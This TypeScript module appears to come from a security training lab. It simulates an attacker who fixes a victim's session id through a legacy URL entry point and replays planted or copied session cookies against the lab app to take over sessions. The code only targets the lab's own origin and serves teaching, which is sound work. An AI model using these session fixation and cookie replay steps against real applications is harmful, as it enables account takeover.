import { createHash } from 'node:crypto';
import type { LabContext } from '../../core/context';
import { randomToken } from '../../crypto/random';
import { SESSION_COOKIE } from '../../sessions/session-policy';

/** How the attacker's own HTTP client introduces itself in the traffic view. */
export const ATTACKER_USER_AGENT = 'EvilCorp-Bot/1.0 (session lab attacker)';

/** What the simulated attacker holds: cookies it planted, copied or stole. Per lab, in memory only. */
interface SessionLoot {
  /** The signed cookie value of the id the attacker planted (session fixation). */
  planted?: string;
  /** A copy of the victim's cookie taken before logout (shared computer, proxy log…). */
  copied?: string;
}

const lootByLab = new WeakMap<LabContext, SessionLoot>();

export function sessionLoot(ctx: LabContext): SessionLoot {
  let loot = lootByLab.get(ctx);
  if (!loot) lootByLab.set(ctx, (loot = {}));
  return loot;
}

/** A lab reset forgets what the attacker holds. */
export function clearSessionLoot(ctx: LabContext): void {
  lootByLab.delete(ctx);
}

export const cookieFingerprint = (value: string) => createHash('sha256').update(value).digest('base64url').slice(0, 12);

/** Reads the session cookie's (decoded) value out of a Set-Cookie header list. */
function sessionCookieFrom(setCookies: string[]): string | undefined {
  for (const header of setCookies) {
    const [pair] = header.split(';');
    const eq = pair?.indexOf('=') ?? -1;
    if (pair && eq > 0 && pair.slice(0, eq).trim() === SESSION_COOKIE) return decodeURIComponent(pair.slice(eq + 1));
  }
  return undefined;
}

/**
 * Step one of session fixation: the attacker picks an id and visits the app's
 * legacy "session id in the URL" entry point itself, which hands back the
 * signed cookie for that id. The attacker keeps it to use after the victim
 * logs in with the same id.
 */
export async function prepareFixation(ctx: LabContext): Promise<{ sid: string; plantUrl: string }> {
  const sid = randomToken(32);
  const plantUrl = `${ctx.origins.app}/api/session/legacy/enter?sid=${sid}`;
  const response = await ctx.dependencies.fetch(plantUrl, {
    redirect: 'manual',
    headers: { 'user-agent': ATTACKER_USER_AGENT },
  });
  await response.arrayBuffer();
  const loot = sessionLoot(ctx);
  loot.planted = sessionCookieFrom(response.headers.getSetCookie());
  return { sid, plantUrl };
}

export interface ReplayResult {
  status: number;
  user: { email: string; role: string } | null;
  error: string | null;
  fingerprint: string;
}

/**
 * The attacker's move in every session attack: send a request to the app
 * from the attacker's own HTTP client with nothing but the cookie value, and
 * see whose session it is.
 */
export async function replaySessionCookie(ctx: LabContext, value: string): Promise<ReplayResult> {
  const response = await ctx.dependencies.fetch(`${ctx.origins.app}/api/session/me`, {
    headers: { cookie: `${SESSION_COOKIE}=${encodeURIComponent(value)}`, 'user-agent': ATTACKER_USER_AGENT },
  });
  const body = (await response.json().catch(() => ({}))) as { user?: { email: string; role: string }; error?: string };
  return {
    status: response.status,
    user: body.user ? { email: body.user.email, role: body.user.role } : null,
    error: body.error ?? null,
    fingerprint: cookieFingerprint(value),
  };
}
